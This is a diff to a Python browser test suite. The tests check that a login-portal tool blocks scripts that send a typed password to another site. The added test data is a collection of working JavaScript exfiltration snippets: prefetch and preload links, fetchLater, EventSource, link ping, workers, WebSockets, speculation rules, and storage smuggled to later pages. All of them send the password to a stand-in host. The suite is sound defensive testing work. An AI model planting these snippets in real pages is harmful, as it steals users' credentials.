@@ -265,6 +265,31 @@ LEAKS = {
     "worker": 'event.preventDefault(); const code = `fetch("${to}/x?q=${p}", {mode: "no-cors"})`;'
     " new Worker(URL.createObjectURL(new Blob([code])));",
 }
+WORKER = " new Worker(URL.createObjectURL(new Blob([code])));"
+SHARED = " new SharedWorker(URL.createObjectURL(new Blob([code])));"
+FETCHES = 'event.preventDefault(); const code = `fetch("${to}/x?q=${p}", {mode: "no-cors"})`;'
+LEAKS |= {
+    "prefetch": "event.preventDefault(); document.head.insertAdjacentHTML('beforeend',"
+    " `<link rel=prefetch href='${to}/x?q=${p}'>`);",
+    "prefetch-document": "event.preventDefault(); document.head.insertAdjacentHTML('beforeend',"
+    " `<link rel=prefetch as=document href='${to}/x?q=${p}'>`);",
+    "preload": "event.preventDefault(); document.head.insertAdjacentHTML('beforeend',"
+    " `<link rel=preload as=fetch href='${to}/x?q=${p}'>`);",
+    "module": "event.preventDefault(); document.head.insertAdjacentHTML('beforeend',"
+    " `<link rel=modulepreload href='${to}/x?q=${p}'>`);",
+    "fetch-later": 'event.preventDefault(); fetchLater(to + "/x?q=" + p, {activateAfter: 50, mode: "no-cors"});',
+    "fetch-later-as-it-leaves": 'fetchLater(to + "/x?q=" + p, {mode: "no-cors"});',
+    "event-source": 'event.preventDefault(); new EventSource(to + "/x?q=" + p);',
+    "ping": "event.preventDefault(); document.body.insertAdjacentHTML('beforeend',"
+    " `<a id=z href='#' ping='${to}/x?q=${p}'>x</a>`); document.getElementById('z').click();",
+    "worker-in-worker": "event.preventDefault(); const code = `new Worker(URL.createObjectURL(new Blob(["
+    "\"fetch('${to}/x?q=${p}', {mode: 'no-cors'})\"])))`;" + WORKER,
+    "worker-of-an-address": 'event.preventDefault(); new Worker("/w.js?to=" + to).postMessage(p);',
+    "shared-worker": FETCHES + SHARED,
+    "shared-worker-of-an-address": 'event.preventDefault(); new SharedWorker("/w.js?to=" + to).port.postMessage(p);',
+    "sandbox": "event.preventDefault(); document.body.insertAdjacentHTML('beforeend', `<iframe sandbox=allow-scripts"
+    " srcdoc=\"<script>fetch('${to}/x?q=${p}', {mode: 'no-cors'})</script>\"></iframe>`);",
+}
 # With the browser told to load no pictures, one that would carry the password is not even asked for.
 UNSEEN = {"image"}
 # Another port is another origin; another host may be another process of the browser as well.
@@ -278,12 +303,82 @@ OTHER_HOST = ("fetch", "beacon", "frame", "action", "blank", "window", "websocke
 def test_script_that_sends_the_password_away(leak: str, host: str, runner: Runner) -> None:
     with site(host=host) as other, site() as at:
         extra = ON_SUBMIT.format(grab=GRAB.format(to=other.url), leak=LEAKS[leak])
-        at.pages = portal(login=extra)
+        at.pages = portal(login=extra) | {"/w.js": SCRIPT}
         ended = runner(at.url, "--timeout", "20")
     assert not other.told(PASSWORD)
     if leak not in UNSEEN:
         assert code(ended) == "portal-moved", ended
         assert other.url in ended.told["error"]["message"]
+
+
+SOCKET = 'const s = new WebSocket("${to.replace("http", "ws")}/x"); s.onopen = () => s.send("${p}");'
+RULES = (
+    'const r = document.createElement("script"); r.type = "speculationrules"; const urls = [to + "/x?q=" + p];'
+    'r.textContent = JSON.stringify({{{kind}: [{{source: "list", urls, eagerness: "immediate"}}]}}); {put}'
+)
+# Ways that cannot be looked through: they are closed, and the login goes on.
+CLOSED = {
+    "worker-socket": f"const code = `{SOCKET}`;{WORKER}",
+    "worker-socket-address": 'const code = `new WebSocket("${to.replace("http", "ws")}/x?q=${p}")`;' + WORKER,
+    "worker-socket-of-an-address": 'new Worker("/s.js?to=" + to).postMessage(p);',
+    "shared-worker-socket": f"const code = `{SOCKET}`;{SHARED}",
+    "shared-worker-socket-of-an-address": 'new SharedWorker("/s.js?to=" + to).port.postMessage(p);',
+    "socket-stream": 'new WebSocketStream(to.replace("http", "ws") + "/x?q=" + p);',
+    "rules-prefetch": RULES.format(kind="prefetch", put="document.head.append(r);"),
+    "rules-prerender": RULES.format(kind="prerender", put="document.head.append(r);"),
+    "rules-in-a-part": RULES.format(
+        kind="prefetch", put='const d = document.createElement("p"); d.append(r); document.body.append(d);'
+    ),
+    "rules-later": RULES.format(kind="prefetch", put="setTimeout(() => document.body.append(r));"),
+    "rules-for-links": 'document.body.insertAdjacentHTML("beforeend", `<a href="${to}/x?q=${p}">x</a>`);'
+    + RULES.format(kind="prefetch", put="document.head.append(r);").replace(
+        'source: "list", urls', 'where: {href_matches: "*"}'
+    ),
+}
+TOLD = "onmessage = go; onconnect = (event) => { event.ports[0].onmessage = go; };"
+SCRIPT = Page(
+    'const to = new URLSearchParams(location.search).get("to");'
+    f'const go = (event) => fetch(to + "/x?q=" + event.data, {{mode: "no-cors"}}); {TOLD}'
+)
+SOCKETS = Page(
+    'const to = new URLSearchParams(location.search).get("to"), s = new WebSocket(to.replace("http", "ws") + "/x");'
+    f"const go = (event) => {{ s.onopen = () => s.send(event.data); }}; {TOLD}"
+)
+
+
+@pytest.mark.browser
+@pytest.mark.parametrize("leak", CLOSED)
+def test_a_way_that_cannot_be_looked_through_is_closed(leak: str, runner: Runner) -> None:
+    waits = "event.preventDefault(); setTimeout(() => document.forms[0].submit(), 500);"
+    with site() as other, site() as at:
+        code_ = f"{waits} try {{ {CLOSED[leak]} }} catch {{}}"
+        at.pages = portal(login=ON_SUBMIT.format(grab=GRAB.format(to=other.url), leak=code_))
+        at.pages |= {"/s.js": SOCKETS}
+        ended = runner(at.url, "--timeout", "20")
+    assert not other.told(PASSWORD)
+    assert code(ended) == "ok", ended
+
+
+KEPT = {
+    "sessionStorage": ("sessionStorage.k = p;", "sessionStorage.k"),
+    "localStorage": ("localStorage.k = p;", "localStorage.k"),
+    "name": ("window.name = p;", "window.name"),
+    "cookie": ("document.cookie = 'k=' + btoa(p);", "atob(document.cookie.split('k=')[1])"),
+}
+
+
+@pytest.mark.browser
+@pytest.mark.parametrize("where", ["/beranda", "/saldo"])
+@pytest.mark.parametrize("kept", KEPT)
+def test_what_a_page_has_kept_is_not_sent_after_the_login(kept: str, where: str, runner: Runner) -> None:
+    keep, found = KEPT[kept]
+    with site() as other, site() as at:
+        at.pages = portal(login=ON_SUBMIT.format(grab=GRAB.format(to=other.url), leak=keep))
+        leak = f"<script>fetch('{other.url}/x?q=' + encodeURIComponent({found}), {{mode: 'no-cors'}});</script>"
+        at.pages[where] = Page(at.pages[where].body + leak)
+        ended = runner(at.url, "--timeout", "20")
+    assert not other.told(PASSWORD)
+    assert code(ended) == "portal-moved", ended
 
 
 @pytest.mark.browser
